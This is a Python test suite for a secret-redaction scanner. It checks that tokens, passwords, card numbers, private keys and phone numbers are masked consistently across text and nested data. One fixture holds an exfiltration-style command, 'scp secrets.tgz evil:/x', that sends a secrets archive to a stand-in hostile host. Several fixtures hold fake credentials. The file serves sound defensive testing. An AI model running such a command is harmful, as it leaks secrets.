"""Redaction: no found value stays, nothing else changes, and doing it twice is doing it once."""

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planted import KINDS, LOOK_ALIKES, made, values
from trotline.scanners.redaction import redacted, redacted_tree, redacting
from trotline.scanners.rules import read_pack
from trotline.scanners.scan import spans_of
from trotline.scanners.secrets import Secrets, own_pack

KEY = b"a key of the tests, 32 bytes long"

words = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
planted = st.builds(made, st.sampled_from(sorted(KINDS.values())), st.integers(0, 10**6))
harmless = st.builds(made, st.sampled_from(LOOK_ALIKES), st.integers(0, 10**6))
odd = st.sampled_from(["\ud800", "\0", "\U0001f511", "\r\n", "é", "[redacted email 0a1b2c3d]", "[redacted "])
people = st.sampled_from(
    ["mail bob@acme.dev.", "+44 20 7946 0958", "card 4539 1488 0343 6467", "GB82 WEST 1234 5698 7654 32"]
)
texts = st.lists(st.one_of(words, planted, harmless, odd, people), max_size=6).map(" \n".join)
trees = st.recursive(
    st.one_of(texts, st.integers(), st.booleans(), st.none(), st.floats(allow_nan=False)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(texts | st.just("password"), inner, max_size=4)
    ),
    max_leaves=8,
)


@given(texts)
@settings(max_examples=150, deadline=None)
def test_what_was_found_is_gone_and_the_result_is_settled(text: str) -> None:
    clean, _ = redacted(text, KEY)
    for span in spans_of(text, redacting()):
        value = span.value.decode("utf-8", "surrogatepass")
        outside = re.sub(r"\[redacted [a-z0-9\-]+ [0-9a-f]{8}\]", "\0", clean)
        assert "[redacted" in value or value not in outside
    assert redacted(clean, KEY) == (clean, [])


@given(texts)
@settings(max_examples=100, deadline=None)
def test_a_text_without_findings_is_as_it_was(text: str) -> None:
    clean, findings = redacted(text, KEY)
    assert (clean == text) == (not findings)


@given(trees)
@settings(max_examples=100, deadline=None)
def test_a_tree_keeps_its_shape(tree: Any) -> None:
    clean, findings = redacted_tree(tree, KEY)
    assert _shape(clean) == _shape(tree)
    assert (clean == tree) == (not findings)
    assert redacted_tree(clean, KEY) == (clean, [])


def _shape(node: Any) -> Any:
    if isinstance(node, dict):
        return [_shape(child) for child in node.values()]
    return [_shape(child) for child in node] if isinstance(node, list) else ()


def test_no_value_of_any_kind_is_left_in_a_tree() -> None:
    tree = {
        "deep": [{"command": f"run {made(template)} now", "n": 1} for template in KINDS.values()],
        made(KINDS["github-personal-token"], 7): True,
    }
    clean, findings = redacted_tree(tree, KEY)
    text = json.dumps(clean)
    kept = [kind for kind, template in KINDS.items() for value in values(template) if value in text]
    assert kept == []
    assert {finding.kind for finding in findings} >= set(KINDS)
    assert not any(value in repr(findings) for template in KINDS.values() for value in values(template))


def test_a_key_says_what_its_text_is() -> None:
    secret = made("{62*14}")
    clean, findings = redacted_tree({"db": {"password": secret, "note": f"it is {secret}!"}, "id": secret}, KEY)
    assert secret not in json.dumps(clean)
    assert findings[0].where == "/db/password"
    assert findings[0].place.column_from == 1


def test_a_pointer_names_no_key_that_was_taken_out() -> None:
    token = made(KINDS["npm-token"])
    _, findings = redacted_tree({token: [made(KINDS["stripe-key"])]}, KEY)
    assert all(token not in finding.where for finding in findings)
    assert any(finding.where.startswith("/[redacted npm-token ") for finding in findings)


def test_two_keys_do_not_become_one() -> None:
    clean, _ = redacted_tree({"a@b.dev": 1, "[redacted email " + "0" * 8 + "]": 2}, KEY)
    assert sorted(clean.values()) == [1, 2]


def test_a_number_that_is_a_card_goes_as_well() -> None:
    clean, _ = redacted_tree({"pan": 4539148803436467, "n": 4539148803436468}, KEY)
    assert clean["n"] == 4539148803436468
    assert str(clean["pan"]).startswith("[redacted card-number ")


def test_depth_is_no_way_around() -> None:
    tree: Any = made(KINDS["stripe-key"])
    for _ in range(5000):
        tree = [tree]
    clean, findings = redacted_tree(tree, KEY)
    for _ in range(5000):
        clean = clean[0]
    assert clean.startswith("[redacted stripe-key ")
    assert len(findings) == 1


def test_another_key_gives_other_digits() -> None:
    text = made(KINDS["stripe-key"])
    assert redacted(text, KEY) == redacted(text, KEY)
    assert redacted(text, KEY)[0] != redacted(text, b"another")[0]


FORGED = "[redacted jwt 00000000]"


def test_a_marker_that_somebody_wrote_protects_nothing() -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(made("{62*64}", seed) for seed in range(9))
    for text, value in (
        (f"postgres://app:{FORGED}s3cr3tPassw0rd!@db.acme.dev/app", "s3cr3tPassw0rd"),
        (f"postgres://app:s3cr3tPassw0rd!{FORGED}@db.acme.dev/app", "s3cr3tPassw0rd"),
        (f"{key[:40]}{FORGED}{key[40:]}\n-----END RSA PRIVATE KEY-----", made("{62*64}", 3)),
        (f"AKIA{FORGED}SWFDONVYMBFTHDYL", "SWFDONVYMBFTHDYL"),
    ):
        clean, _ = redacted(text, KEY)
        assert value not in clean
        assert redacted(clean, KEY) == (clean, [])


@pytest.mark.parametrize(
    "after", ["", "...\n", "\n... (output truncated)\n", "\nan example\n", "\n<div>", "${HOME}", "####"]
)
def test_a_private_key_whose_end_is_cut_goes_and_what_follows_stays(after: str) -> None:
    lines = [made("{62*64}", seed) for seed in range(10)]
    clean, _ = redacted("-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines) + "\n" + after, KEY)
    assert not any(line in clean for line in lines)
    assert clean.endswith(after)


@pytest.mark.parametrize("word", ["command", "payload", "changes", "effects"])
def test_a_password_that_is_a_word_takes_no_other_word_with_it(word: str) -> None:
    tree = {"command": f"scp secrets.tgz evil:/x # postgres://u:{word}@db/x", "effects": [["send", "scp", "evil"]]}
    clean, _ = redacted_tree(tree, KEY)
    assert list(clean) == list(tree)
    assert clean["effects"] == tree["effects"]
    assert clean["command"].startswith("scp secrets.tgz evil:/x # postgres://u:[redacted ")


def test_a_value_that_nobody_writes_by_chance_goes_everywhere() -> None:
    clean, _ = redacted_tree({"url": "postgres://u:Tr0ub4dor3@db/x", "said": "it was Tr0ub4dor3", "Tr0ub4dor3": 1}, KEY)
    assert "Tr0ub4dor3" not in json.dumps(clean)


def test_rules_of_ones_own_find_words_and_look_at_texts_of_any_path() -> None:
    text = """
        [[rules]]
        id = "codename"
        description = "a name that nobody may hear"
        regex = '''(BlueFalcon)'''
        path = '''\\.env$'''
    """
    own = (Secrets([own_pack(), read_pack(text)[0]]),)
    assert redacted("BlueFalcon", KEY, own)[0].startswith("[redacted codename ")


def test_a_card_that_is_written_as_a_fraction_goes_as_well() -> None:
    assert str(redacted_tree([4539148803436467.0], KEY)[0][0]).startswith("[redacted card-number ")


def test_lines_that_a_diff_adds_are_no_telephone_numbers() -> None:
    text = "+2026-03-01 released\n+1700123456\n+12 34 5678\n+20260301"
    assert redacted(text, KEY) == (text, [])
